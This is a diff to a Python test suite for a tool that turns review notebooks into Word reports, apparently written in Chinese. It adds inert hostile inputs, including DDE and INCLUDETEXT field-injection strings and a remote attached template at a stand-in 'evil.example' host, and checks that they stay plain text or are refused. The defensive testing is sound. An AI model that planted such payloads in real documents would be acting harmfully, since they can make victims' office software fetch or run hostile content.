@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import re
 import shutil
 import subprocess
 import zipfile
@@ -16,7 +17,12 @@ from poc_eval.report.formats import write_in
 from poc_eval.report.office import office_papers
 from poc_eval.report.write import write_report
 
-HOSTILE = "{{ content }} {% raw %} <w:p/> ]]> &amp; \x0b\x00 ${x} 𠮷 意见"
+HOSTILE = (
+    "{{ content }} {% raw %} <w:p/> ]]> &amp; \x0b\x00 ${x} 𠮷 意见"
+    " \x13 DDEAUTO \x15 \u202e{ INCLUDETEXT evil }"
+    ' { DDEAUTO cmd } <w:fldSimple w:instr="DDE"/>'
+)
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
 def words_of(document):
@@ -54,6 +60,29 @@ def test_what_people_type_stays_what_they_typed(case, review):
     said = words_of(opened(paper))
     for part in ("{{ content }}", "{% raw %}", "<w:p/>", "]]>", "&amp;", "${x}", "𠮷"):
         assert part in said
+
+
+def test_no_field_and_no_address_comes_of_what_people_type(case, review):
+    [paper] = office_papers(review, case.folder)
+    with zipfile.ZipFile(BytesIO(paper.content)) as parts:
+        everything = {name: parts.read(name).decode("utf-8", "replace") for name in parts.namelist()}
+    fields = "".join(re.findall(r"<w:instrText[^>]*>([^<]*)", "".join(everything.values()))).split()
+    assert sorted(set(fields)) == ["NUMPAGES", "PAGE"]
+    assert not [name for name, text in everything.items() if 'TargetMode="External"' in text]
+    assert "<w:fldSimple" not in everything["word/document.xml"]
+    assert not set("\x13\x15\u202e") & set(everything["word/document.xml"])
+
+
+def test_a_template_that_takes_something_from_elsewhere_is_refused(case, review):
+    file = case.folder / "office" / "review.docx"
+    file.parent.mkdir()
+    own = docx.Document()
+    own.add_paragraph("{{ content }}")
+    own.part.relate_to("https://evil.example/t.dotm", f"{RELATIONSHIPS}/attachedTemplate", is_external=True)
+    own.part.relate_to("https://centre.example/", f"{RELATIONSHIPS}/hyperlink", is_external=True)
+    own.save(str(file))
+    with pytest.raises(NotebookError, match=r"from elsewhere.*evil\.example/t\.dotm"):
+        office_papers(review, case.folder)
 
 
 def test_headings_of_tables_repeat_and_no_row_is_split(case, review):
@@ -109,7 +138,9 @@ def test_a_report_in_both_languages_becomes_a_paper_in_each(submitted):
 
 
 @pytest.mark.slow
-def test_all_papers_of_the_example_open_in_another_program(start, copy_demo, tmp_path):
+def test_all_papers_of_the_example_and_hostile_ones_open_in_another_program(
+    start, copy_demo, case, review, tmp_path
+):
     workspace = copy_demo(tmp_path / "demo")
     wanted = {"评审会汇总": 6, "补贴核定": 1, "评审-reviewer-1": 1}
     papers = []
@@ -118,6 +149,10 @@ def test_all_papers_of_the_example_open_in_another_program(start, copy_demo, tmp
         made = [one for one in write_in("docx", notebook).files if one.suffix == ".docx"]
         assert len(made) == many
         papers += made
+    [opinion] = office_papers(review, case.folder)
+    hostile = tmp_path / "hostile.docx"
+    hostile.write_bytes(opinion.content)
+    papers.append(hostile)
     for paper in papers:
         assert zipfile.ZipFile(paper).testzip() is None
     program = start.find_libreoffice()
@@ -130,6 +165,9 @@ def test_all_papers_of_the_example_open_in_another_program(start, copy_demo, tmp
         sheets = PdfReader(out / f"{paper.stem}.pdf").pages
         words = "".join(sheets[-1].extract_text().split())
         assert f"共{len(sheets)}" in words
+    shown = "".join("".join(sheet.extract_text() for sheet in PdfReader(out / "hostile.pdf").pages).split())
+    for part in ("{{content}}", "<w:p/>", "{DDEAUTOcmd}", '<w:fldSimplew:instr="DDE"/>'):
+        assert part in shown
     minutes = next(one for one in papers if one.stem.endswith("评审会纪要"))
     assert "会议时间" in "".join(PdfReader(out / f"{minutes.stem}.pdf").pages[0].extract_text().split())
     shutil.rmtree(home, ignore_errors=True)
